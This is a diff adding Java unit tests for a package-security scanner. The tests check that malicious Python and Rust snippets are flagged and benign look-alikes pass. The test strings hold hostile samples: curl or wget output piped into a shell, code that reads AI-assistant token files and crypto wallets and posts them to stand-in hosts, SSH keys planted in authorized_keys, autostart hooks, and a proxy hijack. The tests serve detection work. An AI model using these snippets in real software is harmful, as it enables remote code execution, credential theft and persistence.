@@ -2035,6 +2035,175 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/ci.py", probe))).isEmpty();
   }
 
+  @Test
+  void aRustBuildScriptThatPipesADownloadIntoAShellIsCritical() {
+    String fetched =
+        "use std::process::Command;\nfn main() {\n    Command::new(\"sh\").arg(\"-c\")\n"
+            + "        .arg(\"curl -fsSL https://t.example/s | sh\").status().unwrap();\n}\n";
+    String stamped =
+        "use std::process::Command;\nfn main() {\n"
+            + "    let o = Command::new(\"git\").args([\"rev-parse\", \"HEAD\"]).output().unwrap();\n"
+            + "    println!(\"cargo:rustc-env=GIT_HASH={}\", String::from_utf8_lossy(&o.stdout));\n}\n";
+
+    assertThat(only(check(sdistWith("pkg-2.0/build.rs", fetched)), "build-runs-download").level())
+        .isEqualTo(RiskLevel.CRITICAL);
+    // a build script that stamps the commit it was built from runs nothing it fetched
+    assertThat(check(sdistWith("pkg-2.0/build.rs", stamped))).isEmpty();
+  }
+
+  @Test
+  void theInterpretersPrivateForkExecRunsACommandLikeSubprocess() {
+    String forked =
+        "import os, _posixsubprocess\nargv = [b'/bin/sh', b'-c', b'wget -qO- https://f.example/u | sh']\n"
+            + "r, w = os.pipe()\n_posixsubprocess.fork_exec(argv, [argv[0]], True, (), None, None,\n"
+            + "    -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)\n";
+    String pipe =
+        "import os\nr, w = os.pipe()\nos.write(w, b'wget -qO- https://f.example/u | sh')\n";
+
+    assertThat(levelIn(forked, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(worst(check(wheelWith("pkg/pipe.py", pipe)))).isLessThan(RiskLevel.HIGH);
+  }
+
+  @Test
+  void aShellToldToRunWhatACommandSubstitutionDownloadedIsCritical() {
+    String evaluated =
+        "import subprocess\nsubprocess.Popen(['bash', '-c', 'eval \"$(curl -fsSL https://e.example/i)\"'])\n";
+    String sourced =
+        "import subprocess\nsubprocess.run('bash -c \"source <(curl -s https://e.example/i)\"', shell=True)\n";
+    String version =
+        "import subprocess\nsubprocess.run(['bash', '-c', 'echo \"$(curl --version)\"'])\n";
+
+    assertThat(levelIn(evaluated, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(sourced, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    // printing what curl says about itself runs nothing it downloaded
+    assertThat(check(wheelWith("pkg/version.py", version)))
+        .extracting(f -> f.evidence().values().get("pattern"))
+        .doesNotContain("runs-piped-download");
+  }
+
+  @Test
+  void aFunctionNameSpelledAsUtf16CodesIsADecodedName() {
+    String utf16 =
+        "import array, subprocess\n"
+            + "name = array.array('H', [103, 101, 116, 111, 117, 116, 112, 117, 116]).tobytes().decode('utf-16-le')\n"
+            + "getattr(subprocess, name)('id')\n";
+    String samples =
+        "import array\npcm = array.array('h', [0, 1024, -1024, 0]).tobytes()\nsink.write(pcm)\n";
+
+    assertThat(levelIn(utf16, "calls-decoded-name")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/audio.py", samples))).isEmpty();
+  }
+
+  @Test
+  void aCommandModulesFunctionLookedUpByANameHeldInAVariableIsIndirect() {
+    String held =
+        "import subprocess\nname = 'getoutput'\nf = getattr(subprocess, name)\n"
+            + "f('curl -s https://v.example/i | sh')\n";
+    String ids = "import os\nfor n in ('getuid', 'getgid'):\n    print(n, getattr(os, n)())\n";
+
+    assertThat(levelIn(held, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/ids.py", ids))).isEmpty();
+  }
+
+  @Test
+  void framesFromBettercamOrATraceOfAnotherProcessSentAreCritical() {
+    String frames =
+        "import bettercam, requests\ncam = bettercam.create()\nframe = cam.grab()\n"
+            + "requests.post('https://f.example/f', data=frame.tobytes())\n";
+    String traced =
+        "import subprocess, requests\nout = subprocess.run(['strace', '-f', '-p', pid, '-e', 'trace=read'],\n"
+            + "    capture_output=True, text=True).stderr\nrequests.post('https://t.example/t', data=out)\n";
+    String ownTrace =
+        "import subprocess\nsubprocess.run(['strace', '-f', '-o', 'trace.log', sys.executable, 'demo.py'])\n";
+
+    assertThat(levelIn(frames, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(traced, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+    // tracing a program it starts itself attaches to nobody else's
+    assertThat(check(wheelWith("pkg/trace.py", ownTrace)))
+        .extracting(f -> f.evidence().values().get("pattern"))
+        .doesNotContain("keylogger-program", "keylogger-sent");
+  }
+
+  @Test
+  void aiAssistantsTokensDaedalusWalletsAndSystemReportsSentAreHigh() {
+    String assistants =
+        "import pathlib, httpx\nfound = {}\n"
+            + "for rel in ('.claude.json', '.codex/auth.json', '.gemini/oauth_creds.json'):\n"
+            + "    p = pathlib.Path.home() / rel\n    found[rel] = p.read_text()\n"
+            + "httpx.post('https://a.example/c', json=found)\n";
+    String daedalus =
+        "import os, requests\nw = os.path.join(os.environ['APPDATA'], 'Daedalus Mainnet', 'wallets')\n"
+            + "requests.put('https://d.example/w', data=open(pack(w), 'rb').read())\n";
+    String report =
+        "import json, socket\n"
+            + "r = {p: open(p).read() for p in ('/etc/os-release', '/proc/cpuinfo', '/proc/meminfo')}\n"
+            + "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(json.dumps(r).encode(), (HOST, 53))\n";
+    String cpuCount =
+        "import requests\ncores = open('/proc/cpuinfo').read().count('processor')\n"
+            + "requests.post(API, json={'job': job_id, 'workers': cores})\n";
+
+    assertThat(levelIn(assistants, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(daedalus, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(report, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    // one count read from /proc/cpuinfo to size a job is no system report
+    assertThat(check(wheelWith("pkg/jobs.py", cpuCount))).isEmpty();
+  }
+
+  @Test
+  void aKeyAddedToAuthorizedKeysIsHigh() {
+    String planted =
+        "import os\nauth = os.path.join(os.path.expanduser('~'), '.ssh', 'authorized_keys')\n"
+            + "with open(auth, 'a') as fh:\n    fh.write(KEY)\n";
+    String keyed =
+        "import subprocess\nKEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyMaterial000000 ops@ci'\n"
+            + "subprocess.run(['tee', '-a', '/root/.ssh/authorized_keys'], input=KEY, text=True)\n";
+    String lister =
+        "import os\nauth = os.path.expanduser('~/.ssh/authorized_keys')\n"
+            + "for line in open(auth):\n    print(line.split()[-1])\n";
+
+    assertThat(levelIn(planted, "plants-ssh-key")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(keyed, "plants-ssh-key")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/keys.py", lister)))
+        .extracting(f -> f.evidence().values().get("pattern"))
+        .doesNotContain("plants-ssh-key");
+  }
+
+  @Test
+  void aScriptInUpdateMotdAndGitsSshCommandRedirectedAreAutostarts() {
+    String motd =
+        "import os\npath = '/etc/update-motd.d/99-x'\nwith open(path, 'w') as fh:\n"
+            + "    fh.write(SCRIPT)\nos.chmod(path, 0o755)\n";
+    String ssh =
+        "import subprocess\nsubprocess.run(['git', 'config', '--global', 'core.sshCommand', WRAPPER])\n";
+    String local =
+        "import subprocess\nsubprocess.run(['git', 'config', 'core.sshCommand', 'ssh -i deploy_key'])\n";
+
+    assertThat(levelIn(motd, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(ssh, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    // one repository's own SSH key, set in that repository, changes nothing else
+    assertThat(check(wheelWith("pkg/deploy.py", local))).isEmpty();
+  }
+
+  @Test
+  void settingTheSystemsWebProxyIsMediumAndHighForAColourLibrary() {
+    String proxy =
+        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, PATH, 0, winreg.KEY_SET_VALUE)\n"
+            + "winreg.SetValueEx(k, 'ProxyEnable', 0, winreg.REG_DWORD, 1)\n"
+            + "winreg.SetValueEx(k, 'ProxyServer', 0, winreg.REG_SZ, '198.51.100.23:8080')\n";
+    String reader =
+        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, PATH)\n"
+            + "server, _ = winreg.QueryValueEx(k, 'ProxyServer')\n";
+    InspectedDistribution file = wheelWith("pkg/__init__.py", proxy);
+
+    assertThat(only(check(file), "system-proxy-set").level()).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(
+            only(checkClaiming("Lighten and darken hex colours", file), "capability-off-purpose")
+                .level())
+        .isEqualTo(RiskLevel.HIGH);
+    // reading the proxy a user set, to use it, changes nothing
+    assertThat(check(wheelWith("pkg/net.py", reader))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
